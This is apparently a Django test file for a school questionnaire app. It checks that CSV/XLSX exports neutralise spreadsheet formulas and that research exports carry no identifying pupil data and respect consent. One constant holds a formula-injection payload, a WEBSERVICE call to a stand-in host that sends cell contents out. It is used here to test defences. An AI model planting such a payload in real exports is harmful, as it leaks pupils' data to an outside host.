"""The care coordinator's exports (one tidy table per form, nothing runs as a formula) and the
pseudonymised research export (consent, no identifying data, the .sav equals the CSV)."""

import csv
import io
import tempfile
import zipfile
from datetime import date
from pathlib import Path

import pytest
from openpyxl import load_workbook

from onderstroom.audit.models import AuditEvent
from onderstroom.questionnaires import services
from onderstroom.questionnaires.builders import fill_moment, make_moment
from onderstroom.questionnaires.exports import moment_versions
from onderstroom.questionnaires.models import MeasurementMoment, ResearchConsent, Response
from onderstroom.schools.access import build_staff_actor
from onderstroom.schools.models import Child, Enrollment
from onderstroom.testing.world import Persona, World

pytestmark = pytest.mark.django_db

EVIL_VERSION = '=WEBSERVICE("http://e.vil/"&A2&D2)&'
TEACHER_FORM = Path(__file__).parents[1] / "instruments" / "teacher-about-child.yaml"


def read_csv(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"))


def filled_moment(world: World, name: str = "Maart") -> MeasurementMoment:
    moment = make_moment(world.group, name=name)
    fill_moment(moment, seed=3)
    return moment


# --- one table per file -----------------------------------------------------------------------------


def test_every_form_of_a_moment_exports_as_its_own_tidy_table(world: World) -> None:
    moment = filled_moment(world)
    client = world.client_for(Persona.CARE)
    forms = moment_versions(moment)
    assert len(forms) == 3  # the teacher's form and the two children's forms: three tables
    page = client.get(f"/groups/{world.group.uuid}/relations/").content.decode()
    for form in forms:
        base = f"/moments/{moment.uuid}/export/{form.uuid}"
        assert f'href="{base}.csv"' in page
        assert f'href="{base}.xlsx"' in page
        rows = read_csv(client.get(f"{base}.csv").content)
        header, body = rows[0], rows[1:]
        # One header, then rows of exactly its width: no blank separator, no second header.
        assert all(len(row) == len(header) for row in body)
        assert header not in body
        responses = Response.objects.filter(moment=moment, version=form).count()
        assert len(body) == responses
        assert {row[9] for row in body} <= {f"{form.label} ({form.number})"}
        workbook = load_workbook(io.BytesIO(client.get(f"{base}.xlsx").content))
        assert workbook.sheetnames == [form.spec.key[:31], "Codeboek"]
        sheet = workbook[form.spec.key[:31]]
        values = [["" if v is None else v for v in row] for row in sheet.iter_rows(values_only=True)]
        assert [str(v) for v in values[0]] == header
        assert len(values) == 1 + responses


def test_a_version_label_or_a_name_never_becomes_a_formula(world: World) -> None:
    """A school-loaded instrument whose version is a formula that would send pupil data out."""
    admin = build_staff_actor(world.admin, "127.0.0.1", None)
    source = TEACHER_FORM.read_text().replace("key: onderstroom-teacher", "key: school-teacher")
    source = source.replace('version: "1.0"', f"version: '{EVIL_VERSION}'")
    version, _created = services.load_instrument(admin, source.encode())
    assert version.label == EVIL_VERSION
    starts = ["=1+1", "+31 6", "-2", "@SUM(A1)", "\tx", "\rx"]
    for child, start in zip(Child.objects.filter(enrollments__group=world.group), starts, strict=False):
        child.first_name = start
        child.save()
    moment = make_moment(world.group, with_children=False)
    moment.teacher_version = version
    moment.save()
    fill_moment(moment, seed=4, children=False)
    client = world.client_for(Persona.CARE)
    base = f"/moments/{moment.uuid}/export/{version.uuid}"
    rows = read_csv(client.get(f"{base}.csv").content)
    assert rows[1][9] == f"'{EVIL_VERSION} ({version.number})"
    for row in rows:
        for value in row:
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value
    workbook = load_workbook(io.BytesIO(client.get(f"{base}.xlsx").content))
    labels = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(("=", "+", "-", "@", "\t", "\r")), cell.value
                if cell.column == 10 and cell.row > 1 and sheet.title == "school-teacher":
                    labels.append(cell.value)
    assert labels
    assert all(label == f"'{EVIL_VERSION} ({version.number})" for label in labels)
    assert all(cell.data_type == "s" for cell in workbook["school-teacher"]["J"][1:])


# --- the research export -----------------------------------------------------------------------------


def distinctive(world: World) -> list[Child]:
    """Every child of the school gets a name, pupil number and birth date no file holds by chance."""
    children = list(Child.objects.filter(school=world.school).order_by("pk"))
    for i, child in enumerate(children):
        child.first_name = f"Zebedeus{i}x"
        child.surname_prefix = "van"
        child.surname = f"Quaxwell{i}y"
        child.external_id = f"PN-77{i:03d}"
        child.birth_date = date(2015, 1 + i % 12, 10 + i)
        child.save()
    return children


def consent(world: World) -> ResearchConsent:
    return ResearchConsent.objects.create(
        school=world.school, consented_on=date(2026, 9, 1), recorded_by=world.admin
    )


def unzip(content: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def birth_date_forms(day: date) -> list[str]:
    return [
        day.isoformat(),
        day.strftime("%d-%m-%Y"),
        day.strftime("%d/%m/%Y"),
        f"{day.day}-{day.month}-{day.year}",
        day.strftime("%Y%m%d"),
        day.strftime("%d%m%Y"),
    ]


def test_without_the_schools_consent_the_research_export_is_refused(world: World) -> None:
    filled_moment(world)
    for persona in (Persona.CARE, Persona.ADMIN):
        response = world.client_for(persona).get("/research/export.zip")
        assert response.status_code == 409
        assert response["Content-Type"].startswith("text/html")
        assert "toestemming" in response.content.decode()
    assert not AuditEvent.objects.filter(action="questionnaires.research.export").exists()


def test_the_research_export_holds_no_name_pupil_number_birth_date_or_free_text(world: World) -> None:
    children = distinctive(world)
    moment = make_moment(world.group, name="Meting Zomerkoninkje")
    fill_moment(moment, seed=7)
    other = make_moment(world.other_group, name="Meting Winterkoninkje")
    fill_moment(other, seed=8)
    consent(world)
    files = unzip(world.client_for(Persona.ADMIN).get("/research/export.zip").content)
    assert {
        "README.txt",
        "answers.csv",
        "answers.sav",
        "codebook_variables.csv",
        "codebook_items.csv",
    } <= set(files)
    forbidden = ["Zomerkoninkje", "Winterkoninkje", world.group.name, world.other_group.name]
    for person in (world.teacher, world.co_teacher, world.other_teacher):
        forbidden += [person.full_name, person.email]
    for child in children:
        forbidden += [child.first_name, child.surname, child.external_id, *birth_date_forms(child.birth_date)]
    for name, content in files.items():
        text = content.decode("utf-8", errors="replace") + content.decode("latin-1")
        for word in forbidden:
            assert word not in text, (name, word)
    rows = read_csv(files["answers.csv"])
    header, body = rows[0], rows[1:]
    # One row per answer, of both groups' moments (the school admin exports the whole school).
    answers = sum(
        len([v for v in r.values.values() if isinstance(v, int)])
        for r in Response.objects.filter(school=world.school)
    )
    assert len(body) == answers > 0
    assert {row[header.index("moment_opens")] for row in body} == {moment.opens_on.isoformat()}
    assert len({row[header.index("moment")] for row in body}) == 2
    # The .sav opens with pyreadstat and holds the same table.
    import pyreadstat

    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "answers.sav"
        path.write_bytes(files["answers.sav"])
        frame, meta = pyreadstat.read_sav(str(path))
    assert list(frame.columns) == header
    assert meta.column_labels[0].startswith("The child") or meta.column_labels[0].startswith("Het kind")
    sav_rows = [
        [str(int(v)) if isinstance(v, float) else str(v) for v in row]
        for row in frame.itertuples(index=False)
    ]
    assert sav_rows == body


def test_pseudonyms_are_stable_within_an_export_and_new_in_the_next(world: World) -> None:
    filled_moment(world)
    consent(world)
    client = world.client_for(Persona.CARE)
    first = read_csv(unzip(client.get("/research/export.zip").content)["answers.csv"])
    second = read_csv(unzip(client.get("/research/export.zip").content)["answers.csv"])
    column = first[0].index("child")
    codes = {row[column] for row in first[1:]}
    # The care coordinator exports the groups they support: one code per child of the group.
    assert len(codes) == Enrollment.objects.filter(group=world.group).count()
    assert codes.isdisjoint({row[column] for row in second[1:]})
    staff = first[0].index("staff")
    assert len({row[staff] for row in first[1:]}) == 2  # the group's two teachers
    # Each child keeps one code throughout the file: grade and gender never differ within a code.
    grade, gender = first[0].index("grade"), first[0].index("gender")
    per_child = {}
    for row in first[1:]:
        per_child.setdefault(row[column], set()).add((row[grade], row[gender]))
    assert all(len(values) == 1 for values in per_child.values())
    reads = AuditEvent.objects.filter(action="questionnaires.research.export", actor_user=world.care)
    assert reads.count() == 2 * len(codes)
    assert reads.exclude(child__isnull=True).count() == reads.count()


def test_the_school_admin_records_and_withdraws_consent(world: World) -> None:
    admin = world.client_for(Persona.ADMIN)
    assert (
        world.client_for(Persona.CARE)
        .post("/research/consent", {"consented_on": "2026-09-01", "confirm": "on"})
        .status_code
        == 404
    )
    assert admin.post("/research/consent", {"consented_on": "2026-09-01"}).status_code == 400  # not confirmed
    assert admin.post("/research/consent", {"consented_on": "3026-09-01", "confirm": "on"}).status_code == 400
    assert admin.post("/research/consent", {"consented_on": "nonsense", "confirm": "on"}).status_code == 400
    assert not ResearchConsent.objects.exists()
    assert admin.post("/research/consent", {"consented_on": "2026-09-01", "confirm": "on"}).status_code == 302
    recorded = ResearchConsent.objects.get()
    assert (recorded.consented_on, recorded.recorded_by) == (date(2026, 9, 1), world.admin)
    page = admin.get("/research/").content.decode()
    assert "Directeur Eva" in page
    assert (
        AuditEvent.objects.filter(
            action="questionnaires.research_consent.record", actor_user=world.admin
        ).count()
        == 1
    )
    filled_moment(world)
    assert world.client_for(Persona.CARE).get("/research/export.zip").status_code == 200
    assert admin.post("/research/consent", {"withdraw": "1"}).status_code == 302
    assert not ResearchConsent.objects.exists()
    assert AuditEvent.objects.filter(action="questionnaires.research_consent.withdraw").count() == 1
    assert world.client_for(Persona.CARE).get("/research/export.zip").status_code == 409


# --- the class overview as one table -----------------------------------------------------------------


def test_the_class_overview_downloads_as_the_table_the_page_shows(world: World) -> None:
    moment = filled_moment(world)
    children = list(Child.objects.filter(enrollments__group=world.group).order_by("pk"))
    children[0].first_name = "=HYPERLINK(1)"
    children[0].save()
    client = world.client_for(Persona.CARE)
    url = f"/groups/{world.group.uuid}/relations/"
    page = client.get(url).content.decode()
    assert "?format=xlsx" in page
    assert "?format=csv" in page
    rows = read_csv(client.get(url, {"format": "csv"}).content)
    header, body = rows[0], rows[1:]
    assert header[:4] == ["Voornaam", "Achternaam", "Leerjaar", "Leerkracht"]
    assert header[-3:] == ["Profiel", "Verandering", "Signalen"]
    assert len(body) == len(children)  # one row per child the page shows
    assert all(len(row) == len(header) for row in body)
    assert "'=HYPERLINK(1)" in [row[0] for row in body]
    for row in rows:
        assert not any(cell.startswith(("=", "+", "@")) for cell in row)
    # The page's filters hold for the download: a search leaves one child.
    one = read_csv(client.get(url, {"format": "csv", "q": children[1].first_name}).content)
    assert len(one) >= 2
    assert all(children[1].first_name in row[0] for row in one[1:])
    workbook = load_workbook(io.BytesIO(client.get(url, {"format": "xlsx"}).content))
    sheet = workbook.active
    assert sheet is not None
    values = list(sheet.iter_rows(values_only=True))
    assert [str(v) for v in values[0]] == header
    assert len(values) == 1 + len(children)
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
    # A read row per child, as the page writes, with the download's own code.
    for fmt in ("csv", "xlsx"):
        events = AuditEvent.objects.filter(
            action=f"questionnaires.overview.{fmt}", object_uuid=str(moment.uuid)
        )
        assert {e.child_id for e in events} == {c.pk for c in children}


def test_the_class_overview_download_is_closed_to_outsiders_and_children(world: World) -> None:
    filled_moment(world)
    url = f"/groups/{world.group.uuid}/relations/"
    for persona in (Persona.OUTSIDER, Persona.CHILD, Persona.ADMIN, Persona.OTHER_TEACHER):
        for fmt in ("csv", "xlsx"):
            assert world.client_for(persona).get(url, {"format": fmt}).status_code == 404, (persona, fmt)
    assert world.client_for(Persona.CARE).get(url, {"format": "pdf"}).status_code == 404
    assert world.client_for(Persona.TEACHER).get(url, {"format": "csv"}).status_code == 200
    assert (
        not AuditEvent.objects.filter(action__startswith="questionnaires.overview.", child__isnull=False)
        .exclude(actor_user__in=[world.teacher])
        .exists()
    )


# --- reliability as one table ------------------------------------------------------------------------


def test_the_reliability_tables_download_as_one_tidy_table(world: World) -> None:
    moment = filled_moment(world)
    client = world.client_for(Persona.CARE)
    url = f"/moments/{moment.uuid}/reliability/"
    page = client.get(url)
    assert "?format=xlsx" in page.content.decode()
    reports = page.context["reports"]
    rows = read_csv(client.get(url, {"format": "csv"}).content)
    header, body = rows[0], rows[1:]
    assert header[0] == "Vragenlijst"
    assert len(body) == sum(len(scale.items) for report in reports for scale in report.scales)
    assert all(len(row) == len(header) for row in body)
    assert header not in body
    workbook = load_workbook(io.BytesIO(client.get(url, {"format": "xlsx"}).content))
    sheet = workbook.active
    assert sheet is not None
    assert len(list(sheet.iter_rows())) == len(rows)
    # One audit row per download, as the page writes: figures about questions, no child.
    for fmt in ("csv", "xlsx"):
        events = AuditEvent.objects.filter(action=f"questionnaires.reliability.{fmt}")
        assert [e.child_id for e in events] == [None]
    for persona in (Persona.OUTSIDER, Persona.CHILD, Persona.TEACHER, Persona.ADMIN):
        assert world.client_for(persona).get(url, {"format": "csv"}).status_code == 404, persona
